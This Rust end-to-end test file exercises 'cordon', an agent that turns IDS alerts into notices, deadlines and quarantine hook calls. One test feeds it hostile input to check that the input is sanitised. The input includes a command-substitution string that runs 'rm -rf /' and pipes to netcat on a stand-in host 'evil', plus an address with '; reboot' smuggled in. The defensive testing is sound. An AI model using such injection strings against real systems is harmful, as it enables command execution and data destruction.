//! End to end: the real `cordon` binary, a real SMTP server and a real HTTP hook server on
//! 127.0.0.1. An IDS alert becomes a notice, a deadline and a quarantine — durably.
#[path = "support/http_sink.rs"]
mod http_sink;
#[path = "support/smtp_sink.rs"]
mod smtp_sink;

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

const OWNER: &str = "owner@physics.example.edu";
const HOST: &str = "10.1.2.3";
const PROTECTED: &str = "10.1.0.1";
const PEER: &str = "198.51.100.7";
const SIG: &str = "ET SCAN Suspicious inbound to mySQL port 3306";

fn free_port() -> u16 {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    l.local_addr().unwrap().port()
}

struct Agent {
    child: Child,
}

impl Agent {
    fn start(config: &Path) -> Agent {
        let child = Command::new(env!("CARGO_BIN_EXE_cordon"))
            .args(["run", "--quiet", "-c"])
            .arg(config)
            .env("CORDON_LOG", "info")
            .stdout(Stdio::null())
            .stderr(Stdio::from(
                std::fs::File::create(config.with_extension("log")).unwrap(),
            ))
            .spawn()
            .expect("start cordon");
        Agent { child }
    }
    fn kill9(&mut self) {
        let _ = self.child.kill(); // SIGKILL
        let _ = self.child.wait();
    }
    fn term(&mut self) {
        unsafe_sigterm(self.child.id());
        let deadline = Instant::now() + Duration::from_secs(20);
        while Instant::now() < deadline {
            if let Ok(Some(_)) = self.child.try_wait() {
                return;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        self.kill9();
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        self.kill9();
    }
}

fn unsafe_sigterm(pid: u32) {
    let _ = Command::new("kill")
        .args(["-TERM", &pid.to_string()])
        .status();
}

struct Setup {
    dir: tempfile::TempDir,
    config: PathBuf,
    eve: PathBuf,
}

fn setup(smtp_port: u16, hook: &str, window: &str) -> Setup {
    let dir = tempfile::tempdir().unwrap();
    let eve = dir.path().join("eve.json");
    std::fs::write(&eve, "").unwrap();
    let api = free_port();
    let state = dir.path().join("state");
    let outbox = dir.path().join("outbox");
    let config = dir.path().join("cordon.toml");
    let text = format!(
        r#"
[agent]
state_dir = "{state}"
name = "cordon-test"

[campus]
networks = ["10.0.0.0/8"]

[calendar]
timezone = "America/New_York"

[policy.category1]
answer_window = "{window}"

[office]
name = "Security Office"
email = "security@example.edu"

[inventory]
protected = ["{PROTECTED}/32"]

[[inventory.networks]]
cidr = "10.1.0.0/16"
name = "Physics"
owner = "Physics IT"
email = "{OWNER}"

[[inventory.hosts]]
ip = "{HOST}"
hostname = "lab-ws-3.physics.example.edu"
mac = "00:16:3e:aa:bb:cc"

[[sources]]
name = "suricata"
kind = "file"
format = "suricata_eve"
path = "{eve}"
follow = true

[notify]
from = "cordon@example.edu"
answer_base_url = "http://127.0.0.1:{api}"
token_secret = "0123456789abcdef0123456789abcdef"

[notify.retry]
max_attempts = 3
initial_backoff = "1s"
max_backoff = "2s"

[notify.smtp]
host = "127.0.0.1"
port = {smtp_port}
tls = "none"

[notify.file]
dir = "{outbox}"

[enforce]
dry_run = false

[enforce.retry]
max_attempts = 3
initial_backoff = "1s"
max_backoff = "1s"

{hook}

[api]
listen = "127.0.0.1:{api}"
"#,
        state = state.display(),
        eve = eve.display(),
        outbox = outbox.display(),
    );
    std::fs::write(&config, text).unwrap();
    let check = Command::new(env!("CARGO_BIN_EXE_cordon"))
        .args(["check-config", "-c"])
        .arg(&config)
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&check.stdout).trim(),
        "ok",
        "test config must be valid"
    );
    Setup { dir, config, eve }
}

fn http_hooks(url_base: &str) -> String {
    format!(
        r#"
[enforce.hooks.quarantine_host]
type = "http"
url = "{url_base}/quarantine/{{ip}}"
body = {{ ip = "{{ip}}", mac = "{{mac}}", incident = "{{incident}}", key = "{{key}}" }}

[enforce.hooks.release_host]
type = "http"
url = "{url_base}/release/{{ip}}"
"#
    )
}

fn alert(src: &str, dst: &str, signature: &str) -> String {
    let ts = jiff::Timestamp::now()
        .to_zoned(jiff::tz::TimeZone::get("America/New_York").unwrap())
        .strftime("%Y-%m-%dT%H:%M:%S%.6f%z")
        .to_string();
    serde_json::json!({
        "timestamp": ts, "flow_id": 1234567, "in_iface": "eth0", "event_type": "alert",
        "src_ip": src, "src_port": 51234, "dest_ip": dst, "dest_port": 3306, "proto": "TCP",
        "alert": {"action": "allowed", "gid": 1, "signature_id": 2010937, "rev": 3,
                  "signature": signature, "category": "Potentially Bad Traffic", "severity": 2}
    })
    .to_string()
}

fn append(path: &Path, line: &str) {
    let mut f = std::fs::OpenOptions::new().append(true).open(path).unwrap();
    writeln!(f, "{line}").unwrap();
}

fn incidents_json(s: &Setup) -> Vec<serde_json::Value> {
    let out = Command::new(env!("CARGO_BIN_EXE_cordon"))
        .args(["incidents", "list", "--all", "--json", "-c"])
        .arg(&s.config)
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

fn answer_link(mail: &str) -> String {
    let start = mail
        .find("http://127.0.0.1:")
        .expect("answer link in the notice");
    mail[start..]
        .split(|c: char| c.is_whitespace() || c == '>' || c == '"')
        .next()
        .unwrap()
        .to_string()
}

fn rt() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .unwrap()
}

/// Scenario 1: the notice carries every field; exactly one quarantine call after the window.
#[test]
fn alert_becomes_notice_then_exactly_one_quarantine() {
    let rt = rt();
    rt.block_on(async {
        let smtp = smtp_sink::start(Default::default()).await;
        let hook = http_sink::start().await;
        let s = setup(smtp.port(), &http_hooks(&hook.url("")), "4s");
        let mut agent = Agent::start(&s.config);
        append(&s.eve, &alert(HOST, PEER, SIG));
        let mails = smtp.wait_for(1, Duration::from_secs(20)).await;
        assert!(!mails.is_empty(), "no notice arrived");
        let m = &mails[0];
        assert_eq!(m.to, vec![OWNER.to_string()]);
        let body = &m.data;
        for needle in [
            "CRD-",
            "Category 1",
            "actively causing problems",
            HOST,
            "lab-ws-3.physics.example.edu",
            PEER,
            "3306",
            SIG,
            "\"event_type\":\"alert\"",
            "quarantine",
            "/a/",
        ] {
            assert!(body.contains(needle), "notice lacks {needle:?}:\n{body}");
        }
        // Time of the evidence and the deadline, with zone.
        assert!(
            body.contains("EST") || body.contains("EDT"),
            "no time zone in notice:\n{body}"
        );
        assert!(body.to_lowercase().contains("tcp"), "no protocol:\n{body}");
        assert!(
            hook.requests().is_empty(),
            "hook called before the deadline"
        );
        let calls = hook.wait_for(1, Duration::from_secs(20)).await;
        assert_eq!(calls.len(), 1, "quarantine_host not called");
        let c = &calls[0];
        assert_eq!(c.path, format!("/quarantine/{HOST}"));
        assert_eq!(c.json()["ip"], HOST);
        assert_eq!(c.json()["mac"], "00:16:3e:aa:bb:cc");
        assert!(c.header("idempotency-key").unwrap().starts_with("CRD-"));
        tokio::time::sleep(Duration::from_secs(3)).await;
        assert_eq!(hook.requests().len(), 1, "called more than once");
        let inc = incidents_json(&s);
        assert_eq!(inc.len(), 1);
        assert_eq!(inc[0]["phase"]["phase"], "enforced");
        agent.term();
        drop(s.dir);
    });
}

/// Scenario 2: following the answer link before the deadline prevents the call.
#[test]
fn answer_before_deadline_prevents_quarantine() {
    let rt = rt();
    rt.block_on(async {
        let smtp = smtp_sink::start(Default::default()).await;
        let hook = http_sink::start().await;
        let s = setup(smtp.port(), &http_hooks(&hook.url("")), "8s");
        let _agent = Agent::start(&s.config);
        append(&s.eve, &alert(HOST, PEER, SIG));
        let mails = smtp.wait_for(1, Duration::from_secs(20)).await;
        let link = answer_link(&mails[0].data);
        let client = reqwest::Client::new();
        let page = client.get(&link).send().await.unwrap();
        assert_eq!(page.status(), 200);
        let r = client
            .post(&link)
            .header("content-type", "application/x-www-form-urlencoded")
            .body("action=handled&note=unplugged+it")
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{}", r.text().await.unwrap_or_default());
        tokio::time::sleep(Duration::from_secs(11)).await;
        assert!(hook.requests().is_empty(), "quarantine despite the answer");
        let inc = incidents_json(&s);
        assert_eq!(inc[0]["phase"]["phase"], "answered");
    });
}

/// Scenario 3: SIGKILL between notice and deadline; after restart the call arrives once.
#[test]
fn crash_between_notice_and_deadline_still_enforces_once() {
    let rt = rt();
    rt.block_on(async {
        let smtp = smtp_sink::start(Default::default()).await;
        let hook = http_sink::start().await;
        let s = setup(smtp.port(), &http_hooks(&hook.url("")), "6s");
        let mut agent = Agent::start(&s.config);
        append(&s.eve, &alert(HOST, PEER, SIG));
        assert!(!smtp.wait_for(1, Duration::from_secs(20)).await.is_empty());
        // Kill between notice and deadline (the notice's own bookkeeping has had a moment).
        tokio::time::sleep(Duration::from_millis(500)).await;
        agent.kill9();
        tokio::time::sleep(Duration::from_secs(2)).await;
        assert!(hook.requests().is_empty());
        let _agent2 = Agent::start(&s.config);
        let calls = hook.wait_for(1, Duration::from_secs(20)).await;
        assert_eq!(calls.len(), 1);
        tokio::time::sleep(Duration::from_secs(3)).await;
        assert_eq!(hook.requests().len(), 1, "called twice after restart");
        // The line was not read twice: still one incident, one notice.
        assert_eq!(incidents_json(&s).len(), 1);
        // A notice is at-least-once: if the kill landed between delivery and its bookkeeping,
        // a resend carries the same key (Message-ID), so mail systems can drop it.
        let keys: std::collections::BTreeSet<String> = smtp
            .messages()
            .iter()
            .filter_map(|m| {
                m.data
                    .lines()
                    .find(|l| l.starts_with("X-Cordon-Key:"))
                    .map(str::to_string)
            })
            .filter(|k| k.contains("notify-first"))
            .collect();
        assert_eq!(
            keys.len(),
            1,
            "different first notices after restart: {keys:?}"
        );
    });
}

/// Scenario 4: the hook server is down at the deadline; the call arrives once it is back,
/// and the office hears that the hook is failing.
#[test]
fn hook_down_at_deadline_gets_call_when_back() {
    let rt = rt();
    rt.block_on(async {
        let smtp = smtp_sink::start(Default::default()).await;
        let down = http_sink::start_down();
        let s = setup(smtp.port(), &http_hooks(&down.url("")), "2s");
        let _agent = Agent::start(&s.config);
        append(&s.eve, &alert(HOST, PEER, SIG));
        assert!(!smtp.wait_for(1, Duration::from_secs(20)).await.is_empty());
        // Past the deadline with the hook down: several failed attempts.
        tokio::time::sleep(Duration::from_secs(6)).await;
        let hook = down.up().await;
        let calls = hook.wait_for(1, Duration::from_secs(20)).await;
        if calls.is_empty() {
            eprintln!(
                "{}",
                std::fs::read_to_string(s.config.with_extension("log")).unwrap_or_default()
            );
        }
        assert_eq!(
            calls.len(),
            1,
            "call never arrived after the hook came back"
        );
        tokio::time::sleep(Duration::from_secs(3)).await;
        assert_eq!(hook.requests().len(), 1);
        // The third failed attempt (`enforce.retry.max_attempts = 3`) alerted the office,
        // once, while the calls went on.
        let alerts: Vec<_> = smtp
            .messages()
            .into_iter()
            .filter(|m| m.to.iter().any(|t| t == "security@example.edu"))
            .filter(|m| m.data.contains("has failed 3 times"))
            .collect();
        assert_eq!(alerts.len(), 1, "{:#?}", smtp.messages());
        assert!(
            alerts[0].data.contains("still retrying"),
            "{}",
            alerts[0].data
        );
    });
}

/// Scenario 5: a protected host is never enforced automatically; it waits for approval.
#[test]
fn protected_host_waits_for_approval() {
    let rt = rt();
    rt.block_on(async {
        let smtp = smtp_sink::start(Default::default()).await;
        let hook = http_sink::start().await;
        let s = setup(smtp.port(), &http_hooks(&hook.url("")), "2s");
        let _agent = Agent::start(&s.config);
        append(&s.eve, &alert(PROTECTED, PEER, SIG));
        assert!(!smtp.wait_for(1, Duration::from_secs(20)).await.is_empty());
        tokio::time::sleep(Duration::from_secs(6)).await;
        assert!(hook.requests().is_empty(), "protected host was enforced");
        let inc = incidents_json(&s);
        assert_eq!(inc.len(), 1);
        assert_eq!(inc[0]["phase"]["phase"], "awaiting_approval");
        assert_eq!(inc[0]["phase"]["reason"], "protected_asset");
    });
}

/// A hostile alert (shell metacharacters, newlines, a huge signature, a non-canonical
/// address) never reaches a command hook unvalidated.
#[test]
fn hostile_alert_reaches_command_hook_only_as_canonical_values() {
    let rt = rt();
    rt.block_on(async {
        let smtp = smtp_sink::start(Default::default()).await;
        let dir = tempfile::tempdir().unwrap();
        let script = dir.path().join("hook.sh");
        let out = dir.path().join("argv.txt");
        std::fs::write(
            &script,
            "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\n' \"$a\" >> \"$1\"; done\n",
        )
        .unwrap();
        std::os::unix::fs::PermissionsExt::set_mode(
            &mut std::fs::metadata(&script).unwrap().permissions(),
            0o755,
        );
        std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
        let hooks = format!(
            r#"
[enforce.hooks.quarantine_host]
type = "command"
argv = ["{s}", "{o}", "{{ip}}", "{{mac}}", "{{incident}}", "{{key}}"]

[enforce.hooks.release_host]
type = "command"
argv = ["{s}", "{o}", "release", "{{ip}}"]
"#,
            s = script.display(),
            o = out.display()
        );
        let s = setup(smtp.port(), &hooks, "2s");
        let _agent = Agent::start(&s.config);
        let evil_sig = format!(
            "ET SCAN $(touch /tmp/pwned) `id`; rm -rf / | nc evil 1 \n{}",
            "A".repeat(20_000)
        );
        // A non-canonical address first: must not parse into anything enforceable.
        append(&s.eve, &alert("010.001.002.003; reboot", PEER, &evil_sig));
        append(&s.eve, &alert(HOST, PEER, &evil_sig));
        let deadline = Instant::now() + Duration::from_secs(25);
        while !out.exists() && Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
        let argv = std::fs::read_to_string(&out).expect("command hook ran");
        let args: Vec<&str> = argv.lines().collect();
        assert_eq!(args.len(), 5, "{args:?}");
        assert_eq!(args[1], HOST);
        assert_eq!(args[2], "00:16:3e:aa:bb:cc");
        assert!(
            args[3].starts_with("CRD-") && args[3].len() == 15,
            "{args:?}"
        );
        assert!(args[4].starts_with(args[3]), "{args:?}");
        for a in &args[1..] {
            assert!(
                a.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"-:./_".contains(&b)),
                "non-canonical argument {a:?}"
            );
        }
        assert!(!Path::new("/tmp/pwned").exists());
        // Exactly one incident: the garbage address opened nothing.
        assert_eq!(incidents_json(&s).len(), 1);
    });
}

fn cordon(s: &Setup, args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_cordon"))
        .args(args)
        .arg("-c")
        .arg(&s.config)
        .output()
        .unwrap()
}

/// The office verbs against a running agent: `ack` stops the clock; `release` after an
/// enforcement calls the release hook.
#[test]
fn office_ack_stops_the_clock_and_release_calls_the_release_hook() {
    let rt = rt();
    rt.block_on(async {
        let smtp = smtp_sink::start(Default::default()).await;
        let hook = http_sink::start().await;
        let s = setup(smtp.port(), &http_hooks(&hook.url("")), "6s");
        let _agent = Agent::start(&s.config);
        append(&s.eve, &alert(HOST, PEER, SIG));
        append(&s.eve, &alert("10.1.2.4", PEER, SIG));
        assert!(smtp.wait_for(2, Duration::from_secs(20)).await.len() >= 2);
        let incs = incidents_json(&s);
        let id_of = |ip: &str| {
            incs.iter()
                .find(|i| i["subject"]["id"] == ip)
                .map(|i| i["id"].as_str().unwrap().to_string())
                .unwrap()
        };
        let acked = id_of("10.1.2.4");
        let out = cordon(
            &s,
            &["ack", &acked, "--by", "alice", "--note", "owner phoned"],
        );
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let calls = hook.wait_for(1, Duration::from_secs(20)).await;
        assert_eq!(calls.len(), 1);
        assert_eq!(calls[0].path, format!("/quarantine/{HOST}"));
        let enforced = id_of(HOST);
        // Wait for the agent to record the enforcement, then release.
        let deadline = Instant::now() + Duration::from_secs(10);
        while Instant::now() < deadline {
            let i = incidents_json(&s);
            if i.iter()
                .any(|i| i["id"] == enforced.as_str() && i["phase"]["phase"] == "enforced")
            {
                break;
            }
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
        let out = cordon(
            &s,
            &[
                "release", &enforced, "--by", "alice", "--reason", "reimaged",
            ],
        );
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let calls = hook.wait_for(2, Duration::from_secs(20)).await;
        assert_eq!(calls.len(), 2, "release hook not called");
        assert_eq!(calls[1].path, format!("/release/{HOST}"));
        tokio::time::sleep(Duration::from_secs(2)).await;
        assert_eq!(
            hook.requests().len(),
            2,
            "the acknowledged host was enforced"
        );
        let show = cordon(&s, &["incidents", "show", &acked]);
        let text = String::from_utf8_lossy(&show.stdout);
        assert!(
            text.contains("office:alice"),
            "audit trail lacks the office action:\n{text}"
        );
    });
}
